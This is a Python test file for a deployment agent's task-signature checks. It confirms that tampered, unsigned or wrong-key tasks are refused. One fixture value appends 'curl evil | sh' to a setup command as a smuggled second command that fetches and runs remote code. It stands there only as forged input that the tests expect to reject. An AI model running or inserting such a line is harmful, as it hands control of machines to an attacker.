"""Task signatures (mcast.task_sig): what the server signs and what the agent refuses."""

from __future__ import annotations

from dataclasses import fields, replace

import msgpack
import pytest

from mcast.fleet import AgentSettings, Policy, PolicyTask, parse_policy, policy_xml
from mcast.snapshot import generate_key
from mcast.task_sig import (
    DOMAIN,
    TaskSignatureError,
    sign_task,
    task_signing_bytes,
    verify_task,
)

KEY = generate_key()
COMPUTER = "6f1c2a9e-0d7b-4c1e-9a51-2f4e8d3b7c10"
TASK = PolicyTask(
    "0b9e4d2c-5a6f-4e3b-8c7d-1a2b3c4d5e6f",
    "1a2b3c4d-5a6f-4e3b-8c7d-0b9e4d2c5e6f",
    "App",
    "ab" * 32,
    123456,
    2,
    "python3 setup.py --quiet",
    "asap",
    "nobody",
    "agent",
)
CHANGES = {
    "task_id": "0b9e4d2c-5a6f-4e3b-8c7d-1a2b3c4d5e60",
    "package_id": "1a2b3c4d-5a6f-4e3b-8c7d-0b9e4d2c5e60",
    "package_name": "Other",
    "package_hash": "cd" * 32,
    "package_size": 123457,
    "package_version": 3,
    "command": "python3 setup.py --quiet; curl evil | sh",
    "schedule": "2030-01-01T00:00:00Z",
    "credentials": "root",
    "run_from": "server",
    "same_content_as": ("ef" * 32,),  # would make the agent skip a run it owes
}


def test_signed_task_verifies_and_survives_the_policy_xml() -> None:
    signed = sign_task(KEY, COMPUTER, TASK)
    assert len(signed.signature) == 64
    (back,) = parse_policy(policy_xml(Policy(COMPUTER, AgentSettings(), (signed,)))).tasks
    assert back == signed
    assert verify_task(KEY.public_key(), COMPUTER, back) == signed
    renewal = sign_task(KEY, COMPUTER, replace(TASK, same_content_as=("ab" * 32, "cd" * 32)))
    (back,) = parse_policy(policy_xml(Policy(COMPUTER, AgentSettings(), (renewal,)))).tasks
    assert back == renewal and verify_task(KEY.public_key(), COMPUTER, back) == renewal
    with pytest.raises(TaskSignatureError, match="bad signature"):
        verify_task(KEY.public_key(), COMPUTER, replace(renewal, same_content_as=()))


def test_every_field_but_the_signature_is_covered() -> None:
    assert set(CHANGES) == {f.name for f in fields(PolicyTask)} - {"signature"}
    signed = sign_task(KEY, COMPUTER, TASK)
    for name, value in CHANGES.items():
        with pytest.raises(TaskSignatureError, match="bad signature"):
            verify_task(KEY.public_key(), COMPUTER, replace(signed, **{name: value}))


def test_refused_unsigned_other_computer_other_key_and_no_domain() -> None:
    signed = sign_task(KEY, COMPUTER, TASK)
    with pytest.raises(TaskSignatureError, match="missing"):
        verify_task(KEY.public_key(), COMPUTER, TASK)
    with pytest.raises(TaskSignatureError, match="bad signature"):
        verify_task(KEY.public_key(), COMPUTER.replace("6f1c", "7f1c"), signed)
    with pytest.raises(TaskSignatureError, match="bad signature"):
        verify_task(generate_key().public_key(), COMPUTER, signed)
    # the domain prefix is part of what is signed: the bare encoding does not verify
    body = task_signing_bytes(COMPUTER, TASK)
    assert body.startswith(DOMAIN) and msgpack.unpackb(body[len(DOMAIN) :])[0] == COMPUTER
    bare = replace(TASK, signature=KEY.sign(body[len(DOMAIN) :]))
    with pytest.raises(TaskSignatureError):
        verify_task(KEY.public_key(), COMPUTER, bare)


def test_a_malformed_signature_refuses_that_task_only() -> None:
    signed = sign_task(KEY, COMPUTER, TASK)
    doc = policy_xml(Policy(COMPUTER, AgentSettings(), (signed, signed)))
    bad = doc.replace(signed.signature.hex().encode(), b"not hex", 1)
    first, second = parse_policy(bad).tasks
    assert first.signature == b""
    with pytest.raises(TaskSignatureError, match="missing or malformed"):
        verify_task(KEY.public_key(), COMPUTER, first)
    assert verify_task(KEY.public_key(), COMPUTER, second) == signed
